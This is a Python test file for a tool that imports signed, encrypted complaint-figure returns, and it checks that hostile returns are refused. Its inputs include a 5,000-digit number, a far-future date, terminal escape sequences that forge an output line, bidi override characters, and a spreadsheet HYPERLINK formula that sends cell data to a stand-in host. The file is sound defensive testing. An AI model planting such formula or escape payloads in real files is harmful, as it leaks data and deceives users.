"""Hostile returns at the board: every attack a real signed, encrypted file, every refusal
one plain sentence, nothing kept, and a batch that goes on past a refused file.

The attacks are the review's: a 5,000-digit number (parsed before the signature was
checked, it stopped the batch with "unexpected problem"); a created_at of 9999-12-31 that
locked the unit out of its period for good; impossible dates and a trailing newline the
schema let through; impossible figures printed as "900 (180.0%)" and "2000000000.0 days";
a claimed unit name with a newline and ANSI escapes that forged an output line; a unit
registered as a spreadsheet formula.
"""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest

from app.cli import main
from app.returns import board_import
from app.returns.board_import import import_files, import_return
from app.returns.envelope import seal
from app.returns.schema import payload_bytes
from app.store.board import Board
from app.store.errors import CasebookError, ReturnRejected
from tests.returns.return_helpers import Unit, synthetic_payload
from tests.support import PASSPHRASE

LABEL = "2025-26-Q1"


def _refused(board: Board, data: bytes) -> ReturnRejected:
    with pytest.raises(ReturnRejected) as caught:
        import_return(board, data)
    message = str(caught.value)
    assert "\n" not in message and message.endswith(".") and "unexpected" not in message
    return caught.value


def _held(board: Board) -> int:
    return int(board.conn.execute("SELECT count(*) FROM returns").fetchone()[0])


def _signed_text(unit: Unit, text: str, board: Board) -> bytes:
    """Any payload text at all, signed by the unit's real key and sealed to the board."""
    return seal(text.encode(), unit.key, board.recipient())


def _edited(unit: Unit, board: Board, edit: Any, **kw: Any) -> bytes:
    payload = synthetic_payload(unit.name, LABEL, **kw)
    edit(payload)
    return unit.sealed(payload, board.recipient())


# ----- numbers, parsing and the batch --------------------------------------------------------


def test_a_5000_digit_number_is_refused_plainly(board: Board, unit: Unit) -> None:
    text = payload_bytes(synthetic_payload(unit.name, LABEL)).decode()
    huge = text.replace('"seq": ', '"seq": ' + "9" * 5000 + ', "_": ', 1)
    assert huge != text
    rejected = _refused(board, _signed_text(unit, huge, board))
    assert rejected.reason == "invalid" and "a number of 5000 digits" in str(rejected)
    assert _held(board) == 0


def test_nothing_from_an_unregistered_signer_is_parsed(board: Board,
                                                       monkeypatch: pytest.MonkeyPatch) -> None:
    stranger = Unit("Nobody registered this")
    parsed: list[bytes] = []
    real = board_import.parse_payload

    def watching(data: bytes) -> Any:
        parsed.append(data)
        return real(data)

    monkeypatch.setattr(board_import, "parse_payload", watching)
    text = '{"reporting_unit": "Nobody registered this", "n": ' + "9" * 5000 + "}"
    assert _refused(board, _signed_text(stranger, text, board)).reason == "unknown_unit"
    assert parsed == []


def test_a_batch_goes_on_past_every_refused_file_and_exits_non_zero(
        board: Board, unit: Unit, tmp_path: Path, capsys: pytest.CaptureFixture[str],
        monkeypatch: pytest.MonkeyPatch) -> None:
    text = payload_bytes(synthetic_payload(unit.name, LABEL)).decode()
    files = {
        "huge.age": _signed_text(unit, text.replace('"seq": ', '"seq": ' + "9" * 5000 + ', "_": ',
                                                    1), board),
        "garbage.age": b"not a return at all",
        "good.age": unit.sealed(synthetic_payload(unit.name, "2025-26-Q2"), board.recipient()),
        "future.age": _edited(unit, board, lambda p: None,
                              created=datetime(9999, 12, 31, tzinfo=UTC)),
    }
    paths = []
    for name, data in files.items():
        (tmp_path / name).write_bytes(data)
        paths.append(tmp_path / name)
    folder = board.folder
    board.close()
    monkeypatch.setenv("CASEBOOK_PASSPHRASE", PASSPHRASE)
    code = main(["board", "import", *map(str, paths), "--board", str(folder)])
    err = capsys.readouterr().err
    assert code == 1
    lines = err.strip().splitlines()
    assert len(lines) == 4, lines
    assert [line.split(":")[0].rsplit("/", 1)[-1] for line in lines] == list(files)
    assert "refused" in lines[0] and "refused" in lines[1] and "refused" in lines[3]
    assert lines[2].endswith("Imported the return from Ward 7 contacts for 2025-26-Q2.")
    assert "unexpected" not in err


def test_an_unexpected_error_in_one_file_does_not_stop_the_batch(
        board: Board, unit: Unit, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    first, second = tmp_path / "a.age", tmp_path / "b.age"
    first.write_bytes(unit.sealed(synthetic_payload(unit.name, LABEL), board.recipient()))
    second.write_bytes(unit.sealed(synthetic_payload(unit.name, "2025-26-Q2"),
                                   board.recipient()))
    real = board_import.import_return
    calls = iter([RuntimeError("a bug"), None])

    def flaky(board: Board, data: bytes) -> Any:
        problem = next(calls)
        if problem is not None:
            raise problem
        return real(board, data)

    monkeypatch.setattr(board_import, "import_return", flaky)
    results = import_files(board, [first, second])
    assert isinstance(results[0][1], CasebookError) and "the others go on" in str(results[0][1])
    assert results[1][1].outcome == "imported"  # type: ignore[union-attr]


# ----- times ---------------------------------------------------------------------------------


def test_a_return_from_the_far_future_is_refused_and_locks_nobody_out(board: Board,
                                                                       unit: Unit) -> None:
    future = _edited(unit, board, lambda p: None, created=datetime(9999, 12, 31, tzinfo=UTC))
    rejected = _refused(board, future)
    assert rejected.reason == "impossible" and "in the future" in str(rejected)
    tomorrow_and_more = datetime.now(UTC) + timedelta(days=2)
    assert _refused(board, _edited(unit, board, lambda p: None,
                                   created=tomorrow_and_more)).reason == "impossible"
    # The unit's real return for the period still goes in.
    assert import_return(board, _edited(unit, board, lambda p: None)).outcome == "imported"


@pytest.mark.parametrize("stamp", [
    "2025-02-30T09:00:00.000000Z", "2025-06-01T99:99:99.000000Z",
    "2025-06-01T09:00:00.000000Z\n", "2025-13-01T09:00:00.000000Z",
])
def test_impossible_times_and_trailing_newlines_are_refused(board: Board, unit: Unit,
                                                            stamp: str) -> None:
    def edit(payload: dict[str, Any]) -> None:
        payload["created_at"] = stamp

    assert _refused(board, _edited(unit, board, edit)).reason in ("invalid", "impossible")
    assert _held(board) == 0


def test_a_trailing_newline_is_refused_in_every_patterned_field(board: Board,
                                                                unit: Unit) -> None:
    for field in ("return_id", "software_version"):
        def edit(payload: dict[str, Any], field: str = field) -> None:
            payload[field] += "\n"

        assert _refused(board, _edited(unit, board, edit)).reason == "invalid", field

    def head(payload: dict[str, Any]) -> None:
        payload["audit_head"]["hash"] += "\n"

    assert _refused(board, _edited(unit, board, head)).reason == "invalid"


def test_a_return_made_before_its_period_began_is_refused(board: Board, unit: Unit) -> None:
    early = _edited(unit, board, lambda p: None, created=datetime(2025, 3, 1, tzinfo=UTC))
    assert "before its period began" in str(_refused(board, early))


# ----- figures ------------------------------------------------------------------------------


def _closed_500_within_900(payload: dict[str, Any]) -> None:
    figures = payload["figures"]
    figures["closed"]["stage1"] = 500
    figures["outcomes"]["stage1"] = {"upheld": 500, "partially_upheld": 0, "not_upheld": 0}
    figures["working_days"]["stage1"] = {"sum": 1500, "count": 500}
    figures["within_timescale"]["stage1"] = 900


def _days_10_to_the_12(payload: dict[str, Any]) -> None:
    days = payload["figures"]["working_days"]["stage2"]
    days["sum"] = 10**12


def _outcomes_short(payload: dict[str, Any]) -> None:
    payload["figures"]["outcomes"]["stage2"]["upheld"] += 1


def _services_off(payload: dict[str, Any]) -> None:
    payload["figures"]["by_service"]["nhs"]["received"]["anonymous"] += 3


def _theme_over(payload: dict[str, Any]) -> None:
    payload["figures"]["by_theme"]["fraud"]["received"]["stage1"] = \
        payload["figures"]["received"]["stage1"] + 1


def _feedback_off(payload: dict[str, Any]) -> None:
    payload["figures"]["feedback"]["received"] += 1


def _extended_over(payload: dict[str, Any]) -> None:
    figures = payload["figures"]
    figures["extended"]["stage2"] = figures["received"]["stage2"] + 1


def _contracted_over(payload: dict[str, Any]) -> None:
    figures = payload["figures"]
    extra = figures["received"]["unnamed"] + 1
    figures["contracted_services"]["unnamed"] = extra
    first = sorted(figures["by_service"])[0]
    figures["by_service"][first]["contracted_services"]["unnamed"] += extra - \
        sum(b["contracted_services"]["unnamed"] for b in figures["by_service"].values())
    for name, block in sorted(figures["by_raiser_category"].items()):
        block["contracted_services"]["unnamed"] = extra if name == sorted(
            figures["by_raiser_category"])[0] else 0


@pytest.mark.parametrize(("edit", "said"), [
    (_contracted_over, "unnamed concerns about contracted or primary-care services, but only"),
    (_closed_500_within_900, "900 stage 1 concerns were closed within the timescale, but only "
                             "500"),
    (_days_10_to_the_12, "working days over"),
    (_outcomes_short, "stage 2 outcomes add up to"),
    (_services_off, "service figures for received anonymous add up to"),
    (_theme_over, "theme fraud: received stage1"),
    (_feedback_off, "feedback answers add up to"),
    (_extended_over, "stage 2 extensions for"),
])
def test_impossible_figures_are_refused_with_the_first_inconsistency(
        board: Board, unit: Unit, edit: Any, said: str) -> None:
    rejected = _refused(board, _edited(unit, board, edit, seed=3))
    assert rejected.reason == "impossible" and said in str(rejected), str(rejected)
    assert _held(board) == 0


def test_closed_may_exceed_received(board: Board, unit: Unit) -> None:
    """Concerns received in an earlier period close in this one: that is not impossible."""
    def edit(payload: dict[str, Any]) -> None:
        from tests.returns.return_helpers import set_received

        set_received(payload["figures"], stage1=0, stage2=0)

    payload = synthetic_payload(unit.name, LABEL, seed=5)
    edit(payload)
    assert payload["figures"]["closed"]["stage1"] > 0
    assert import_return(board, unit.sealed(payload, board.recipient())).outcome == "imported"


def test_control_characters_in_learning_statements_are_refused(board: Board,
                                                               unit: Unit) -> None:
    data = _edited(unit, board, lambda p: None,
                   learning=["Fine line\nsecond line", "Forged\x1b[2K\rImported 99"])
    assert "control characters" in str(_refused(board, data))


# ----- what is printed -----------------------------------------------------------------------


def test_a_claimed_name_with_escapes_never_reaches_the_terminal(
        board: Board, tmp_path: Path, capsys: pytest.CaptureFixture[str],
        monkeypatch: pytest.MonkeyPatch) -> None:
    stranger = Unit("x")
    forged = "Ward 7\n/tmp/r.age: Imported the return\x1b[2K\r"
    payload = synthetic_payload("x", LABEL)
    payload["reporting_unit"] = forged
    path = tmp_path / "r.age"
    path.write_bytes(stranger.sealed(payload, board.recipient()))
    folder = board.folder
    board.close()
    monkeypatch.setenv("CASEBOOK_PASSPHRASE", PASSPHRASE)
    assert main(["board", "import", str(path), "--board", str(folder)]) == 1
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and "\x1b" not in err and "\r" not in err
    assert "\\u000a" in err and "refused" in err


def test_a_unit_named_like_a_formula_is_inert_in_the_csv(board: Board, tmp_path: Path) -> None:
    from app.core.periods import parse_period
    from app.returns.board_output import write_board_csv
    from app.returns.board_report import board_figures

    unit = Unit('=HYPERLINK("http://example.invalid/?"&A1,"Click")')
    board.register_unit(unit.name, unit.public)
    import_return(board, unit.sealed(synthetic_payload(unit.name, LABEL), board.recipient()))
    out = tmp_path / "board.csv"
    write_board_csv(board_figures(board, parse_period(LABEL)), out, board.name)
    rows = list(csv.reader(io.StringIO(out.read_text(encoding="utf-8"))))
    cells = [cell for row in rows for cell in row]
    assert any(cell.startswith("'=HYPERLINK") for cell in cells)
    assert not any(cell.startswith(("=", "+", "@")) for cell in cells)
    assert not any(cell.startswith("-") and not cell.lstrip("-").replace(".", "").isdigit()
                   for cell in cells)


def test_register_refuses_names_with_control_or_direction_characters(board: Board) -> None:
    for name in ("Ward\n7", "Ward \u202e7", "Ward\x1b[31m"):
        with pytest.raises(CasebookError):
            board.register_unit(name, Unit(name).public)


# ----- withdrawing a held return ---------------------------------------------------------


def test_the_board_can_withdraw_a_held_return_audited(
        board: Board, unit: Unit, tmp_path: Path, capsys: pytest.CaptureFixture[str],
        monkeypatch: pytest.MonkeyPatch) -> None:
    late = _edited(unit, board, lambda p: None, created=datetime(2026, 9, 1, tzinfo=UTC))
    earlier = _edited(unit, board, lambda p: None, created=datetime(2026, 8, 1, tzinfo=UTC),
                      seed=1)
    import_return(board, late)
    assert _refused(board, earlier).reason == "superseded"
    folder = board.folder
    board.close()
    monkeypatch.setenv("CASEBOOK_PASSPHRASE", PASSPHRASE)
    code = main(["board", "withdraw", unit.name, "--period", LABEL, "--reason",
                 "made with the wrong period", "--board", str(folder)])
    assert code == 0 and "Withdrawn" in capsys.readouterr().err
    code = main(["board", "withdraw", unit.name, "--period", LABEL, "--reason", "again",
                 "--board", str(folder)])
    err = capsys.readouterr().err
    assert code == 1 and "No return from Ward 7 contacts for 2025-26-Q1" in err
    with Board.open(folder, PASSPHRASE) as reopened:
        assert import_return(reopened, earlier).outcome == "imported"
        events = [(e, json.loads(d)) for e, d in reopened.conn.execute(
            "SELECT event, detail FROM audit WHERE event = 'return.withdrawn'")]
        assert events and events[0][1]["reason"] == "made with the wrong period"
        assert reopened.verify_audit().ok
